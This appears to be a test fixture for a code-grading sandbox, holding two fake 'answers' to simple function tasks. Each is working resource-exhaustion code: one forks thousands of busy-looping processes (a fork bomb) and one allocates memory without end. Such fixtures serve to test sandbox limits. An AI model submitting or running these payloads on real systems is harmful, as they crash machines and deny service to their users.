"""Fork without end and take all memory."""

ANSWERS = {
    "double": """
def double(x):
    try:
        for n in range(10000):
            if os.fork() == 0:
                while True: pass
    except OSError:
        pass
    return 0
""",
    "partial": """
def thirds(n):
    hold = []
    while True: hold.append(bytearray(64 << 20))
""",
}
